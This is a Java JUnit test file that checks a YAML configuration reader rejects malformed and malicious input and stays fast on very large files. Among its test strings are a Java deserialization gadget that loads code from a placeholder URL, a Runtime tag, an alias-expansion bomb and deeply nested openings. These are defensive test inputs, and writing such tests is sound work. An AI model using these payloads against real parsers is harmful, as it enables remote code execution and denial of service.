// SPDX-License-Identifier: Apache-2.0
package org.btrt.config;

import static org.btrt.config.ConfigurationTexts.errors;
import static org.btrt.config.ConfigurationTexts.read;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is no plain YAML, by mistake or by malice. The time-out is a net, not a measurement. */
@Timeout(value = 20, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class YamlFileTest {
  private static final String FILE = "/srv/btrt/btrt.conf";

  @Test
  void shouldRefuseTabs() {
    assertEquals(
        List.of(
            FILE + ":2: is indented with a tab, expected: spaces",
            FILE + ":4: is indented with a tab, expected: spaces"),
        errors("udp:\n\tworkers: 1\nhttp:\n  \tworkers: 1\n"));
  }

  @Test
  void shouldTakeTabsThatIndentNothing() {
    assertEquals(1, read("udp: {workers: 1} # a\tb\n# c\td\n").udp().workers());
  }

  @Test
  void shouldTakeLineEndsOfOtherSystems() {
    assertEquals(1, read("udp:\r\n  # text\r\n  workers: 1\r\n").udp().workers());
  }

  @Test
  void shouldNameTheLineOfASyntaxError() {
    List<String> errors = errors("udp:\n  workers: 1\n   engine: auto\n");

    assertEquals(1, errors.size());
    assertTrue(errors.get(0).startsWith(FILE + ":3: is not valid YAML: "), errors.get(0));
    assertTrue(errors.get(0).endsWith(", expected: valid YAML"), errors.get(0));
  }

  @Test
  void shouldRefuseSeveralDocuments() {
    assertEquals(
        List.of(
            FILE
                + ":2: is not valid YAML: expected a single document in the stream, but found"
                + " another document, expected: valid YAML"),
        errors("udp: {}\n---\nudp: {}\n"));
  }

  @Test
  void shouldRefuseWhatIsNotUtf8() {
    byte[] latin1 = {'a', ':', ' ', 'b', '\n', '#', (byte) 0xE4, '\n'};
    assertEquals(
        List.of(FILE + ":2: is not UTF-8 text, expected: a text file in UTF-8"), errors(latin1));
    assertEquals(
        List.of(FILE + ":1: is not UTF-8 text, expected: a text file in UTF-8"),
        errors(new byte[] {'#', (byte) 0xC3}));
  }

  @Test
  void shouldRefuseControlCharacters() {
    assertEquals(
        List.of(FILE + ":2: has a control character, expected: printable text"),
        errors("udp: {}\n# \u0001\n"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "udp: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://192.0.2.1/\"]]",
        "!!java.lang.Runtime {}",
        "udp: {workers: !<tag:example.com,2026:x> 1}",
        "udp: {workers: !local 1}",
        "udp: !!set {workers}",
        "udp: &a {workers: 1}\nhttp: *a",
        "udp: {workers: &a 1}\nhttp: {workers: *a}",
        "udp: &a {workers: *a}",
        "udp: *nowhere",
        "udp:\n  <<: {workers: 1}\n",
        "? [udp]\n: 1\n",
        "? {a: b}\n: 1\n",
        "%YAML 99999999999.1\n---\nudp: {}\n",
        "%TAG ! tag:example.com,2026:\n---\nudp: !a {}\n",
        "udp: \"\\UFFFFFFFF\"",
        "udp: \"\\UD800\"",
        "udp: \"\\uD800\"",
        "udp: !!binary AAAA",
        "udp: !<%FF> a",
      })
  void shouldRefuseWhatIsNotPlain(String yaml) {
    errors(yaml).forEach(error -> assertTrue(error.startsWith(FILE + ":"), error));
  }

  @Test
  void shouldNameTagsAndAnchors() {
    assertEquals(
        List.of(FILE + ":1: udp.workers: has a tag \"!local\", expected: plain YAML"),
        errors("udp: {workers: !local 1}"));
    assertEquals(
        List.of(FILE + ":1: udp.workers: has an anchor \"a\", expected: plain YAML"),
        errors("udp: {workers: &a 1}"));
  }

  @Test
  void shouldRefuseAliasBombs() {
    String bomb =
        IntStream.range(1, 30)
            .mapToObj(i -> "a%d: &a%d [*a%d, *a%d]\n".formatted(i, i, i - 1, i - 1))
            .collect(Collectors.joining("", "a0: &a0 [x, x]\n", ""));
    assertEquals(1, errors(bomb).size());
  }

  @ParameterizedTest
  @ValueSource(strings = {"[", "{", "- ", "? ", "{a: ", "[[a]: "})
  void shouldRefuseDeepNesting(String opening) {
    assertEquals(1, errors("udp: " + opening.repeat(20_000)).size());
    assertEquals(1, errors(opening.repeat(20_000)).size());
  }

  @Test
  void shouldRefuseLongFilesUnread() {
    assertEquals(
        List.of(FILE + ": is too long, expected: at most 1048576 bytes"),
        errors("udp: \"" + "x".repeat(3 << 20) + "\""));
  }

  @ParameterizedTest
  @ValueSource(strings = {"x", "\\n", " x", "\n\n", "a: ", "- ", ",", "#", "'", "&a ", "!a "})
  void shouldEndQuicklyOnTheLongestFiles(String part) {
    int count = (YamlFile.FILE_MAX_BYTES - 100) / part.length();
    assertEnds("udp: {engine: \"" + part.repeat(count) + "\"}");
    assertEnds("udp: " + part.repeat(count));
  }

  private static void assertEnds(String yaml) {
    try {
      ConfigurationReader.read(ConfigurationTexts.FILE, yaml.getBytes(StandardCharsets.UTF_8));
    } catch (ConfigurationException e) {
      assertTrue(e.messages().get(0).startsWith(FILE + ":"), () -> e.messages().get(0));
    }
  }

  @Test
  void shouldEndQuicklyOnManyUnknownKeys() {
    String keys =
        IntStream.range(0, 30_000)
            .mapToObj(i -> "  connection_id_" + i + ": 1\n")
            .collect(Collectors.joining("", "udp:\n", ""));
    assertEquals(30_000, errors(keys).size());
  }
}
